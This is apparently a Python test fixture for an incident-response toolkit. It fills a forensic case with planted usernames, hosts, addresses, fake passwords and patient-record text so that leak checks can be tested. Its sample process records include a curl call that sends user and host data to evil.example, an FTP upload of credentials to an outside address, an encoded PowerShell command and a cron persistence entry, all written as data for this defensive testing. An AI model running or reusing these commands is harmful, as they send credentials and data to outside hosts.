"""A case that is full of what must not leave it, in the places and forms that hosts have it."""

import base64
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from irkit.case import Case, Query, Reviewer
from irkit.records import (
    Account,
    Connection,
    Examined,
    Hit,
    Kind,
    Opinion,
    Outcome,
    Persistence,
    Process,
    Reason,
    Scan,
    Session,
    State,
    SystemFact,
    ThingRow,
)
from tests.case.sample import ABOUT, NOON, finding, item, scan

USERS = ("alice", "jürgen", "o'neill+x", "svc(backup)*", "Priya Deshmukh", "अलका", "a.b-c_d", "kz")
HOSTS = ("web01", "dc-berlin", "WS0042")
DOMAINS = ("clinic-nord.example", "CLINICNORD")
ADDRESSES = (
    "10.20.30.40",
    "192.168.77.5",
    "172.31.9.8",
    "fd12:3456::77",
    "169.254.7.7",
    "8.211.5.6",
)
HARDWARE = ("52:54:00:ab:cd:ef",)
PASSWORDS = ("Hunter2!secret", "s3cr3t;pipe", "Tr0ub4dor&3")
FREE = ("Patient record of Mrs Lindqvist", "Klinikum Nordstern", "2025-KLN-17")
NAMES = ("Kündigung Lindqvist.pdf", "salaries-2024.xlsx", "merger plan.docx")

SECRETS = (*USERS[:-1], *HOSTS, *DOMAINS, *ADDRESSES, *HARDWARE, *PASSWORDS)
PUBLIC_SECRETS = (*SECRETS, *FREE, "Lindqvist", "salaries", "merger plan")

KEPT = (
    "0a" * 32,
    "webshell_eval_request",
    "203.0.113.9",
    "evil.example",
    "/etc/crontab",
    "/usr/bin/python3",
)


PATHS = (
    f"/home/{USERS[0]}/{NAMES[0]}",
    f"/srv/{NAMES[1]}",
    f"C:\\Users\\{USERS[4]}\\{NAMES[2]}",
    f"/home/{USERS[6]}/x/{USERS[0]}.txt",
    f"/mnt/image/home/{USERS[0]}/y",
)


def _commands() -> Iterator[tuple[str, ...]]:
    yield ("mysql", "-u", "root", f"--password={PASSWORDS[0]}", "-h", HOSTS[1])
    yield ("/usr/bin/python3", "-c", f"login('{USERS[0]}', password='{PASSWORDS[1]}')")
    yield ("sshpass", "-p", PASSWORDS[2], "ssh", f"{USERS[0]}@{HOSTS[0]}.{DOMAINS[0]}")
    inner = f"dir C:\\Users\\{USERS[0]}\\Desktop; ping {HOSTS[2]}"
    for encoding in ("utf-16-le", "utf-8"):
        yield ("powershell", "-enc", base64.b64encode(inner.encode(encoding)).decode())
    yield ("curl", f"http://evil.example/?u={USERS[0]}&h=web01%2Eclinic-nord.example&n=j%C3%BCrgen")
    yield (
        "curl",
        "-u",
        f"{USERS[0]}:{PASSWORDS[0]}",
        f"ftp://{USERS[0]}:{PASSWORDS[2]}@203.0.113.9/",
    )


def _everything() -> str:
    """All of it in one text, in several cases."""
    words = [*SECRETS, *FREE[1:]]
    return " | ".join(
        [*words, *(word.upper() for word in words), *(word.lower() for word in words)]
    )


def records() -> Iterator[object]:
    text = _everything()
    for user in USERS:
        yield Account(user, "1000", f"/home/{user}", "/bin/bash", True, False, FREE[0])
        yield Session(user, "pts/0", f"{HOSTS[1]}.{DOMAINS[0]}", NOON)
    yield Account(
        f"{DOMAINS[1]}\\{USERS[0]}",
        "S-1-5-21-11-22-33-1001",
        r"C:\Users\alice",
        "",
        True,
        False,
        "",
    )
    yield Session("root", "pts/1", ADDRESSES[0], NOON)
    yield Session("root", "pts/2", "login.evil.example", NOON)
    for number, command in enumerate(_commands(), start=40):
        folder = f"/home/{USERS[0]}/{NAMES[2]}"
        yield Process(
            number, 1, HOSTS[0], f"{folder}/run", False, False, command, USERS[0], NOON, folder, ""
        )
    for address in ADDRESSES:
        yield Connection("tcp", address, 22, "203.0.113.9", 443, "ESTABLISHED", 40, USERS[0])
        if address != ADDRESSES[-1]:
            yield Connection("tcp", "127.0.0.1", 22, address, 443, "ESTABLISHED", 40, "sshd")
    yield SystemFact("hostname", HOSTS[0])
    yield SystemFact("membership", f"domain {DOMAINS[1]}")
    yield SystemFact("host", f"{HOSTS[0]}.{DOMAINS[0]}")
    yield SystemFact("machine_id", "0123456789abcdef0123456789abcdee")
    yield SystemFact("network_interface", f"eth0: up, MAC {HARDWARE[0]}, {ADDRESSES[-1]}/24")
    yield SystemFact("mount", f"/mnt nfs4 {HOSTS[2]}:/export rw")
    yield SystemFact("user", USERS[1])
    command = f"pg_dump --token {PASSWORDS[0]} {text}"
    more = (USERS[0], True, NOON, "T1053.003", text)
    yield Persistence("cron", "/etc/crontab", f"backup of {USERS[0]}", command, *more)
    for path in PATHS:
        hits = tuple(_hits(text))
        found = (
            finding(path, 90, reason=f"{path} says: {text}", hits=hits, hit_count=len(hits)),
            finding(path, 50, rule="second", hits=(), hit_count=0),
        )
        yield Examined(item(path), found)
    yield item(
        f"/home/{USERS[1]}/{NAMES[0]}", outcome=Outcome.FAILED, reason=Reason.DENIED, detail=text
    )
    yield item(
        f"/home/caf\udce9/{USERS[0]}", outcome=Outcome.FAILED, reason=Reason.UNREADABLE, detail=""
    )
    yield Examined(item("pid 40 (alice)", kind=Kind.PROCESS), (
        finding("pid 40 (alice)", 60, kind=Kind.PROCESS, pid=40, size=None),))  # fmt: skip


def _hits(text: str) -> Iterator[Hit]:
    for encoding in ("utf-8", "utf-16-le"):
        data = text.encode(encoding)
        yield Hit(
            "$all", 4096, len(data), data, b"\xff\x00", b"\x00", f"image r-xp /home/{USERS[0]}/x"
        )
        for secret in SECRETS:
            whole = f"say {secret} now".encode(encoding)
            for cut in range(4, len(whole), 7):  # a name may lie across the ends of a match
                middle = whole[cut : cut + 3]
                yield Hit("$cut", 4096, 3, middle, whole[:cut], whole[cut + 3 :])


@contextmanager
def planted_case(folder: Path) -> Iterator[Case]:
    """The case, open for writing."""
    about = ABOUT.__class__(
        ABOUT.identifier, FREE[1], FREE[2], USERS[4], FREE[1], ABOUT.created, ABOUT.irkit_version
    )
    with Case.create(folder, about) as case:
        values: Scan = scan(
            host=HOSTS[0],
            user=USERS[0],
            command=("irkit", "triage", "--case", f"/home/{USERS[0]}/cases"),
            scope=f'{{"roots":["/home/{USERS[0]}"],"raw":"C:\\\\Users\\\\{USERS[0]}"}}',
        )
        number = case.begin_scan(values)
        case.record(number, [*records()])  # type: ignore[list-item]
        case.finish_scan(number, State.DONE)
        case.log("report written", f"/home/{USERS[0]}/r.html", {"path": _everything()})
        with Reviewer.open(folder) as reviewer:
            (ids,) = case.row_ids(Query(ThingRow))
            reviewer.judge(ids[:1], Opinion.MALICIOUS, 90, FREE[0])
            reviewer.note(ids, _everything())
            reviewer.tag(ids[:1], f"of {USERS[0]}")
        yield case
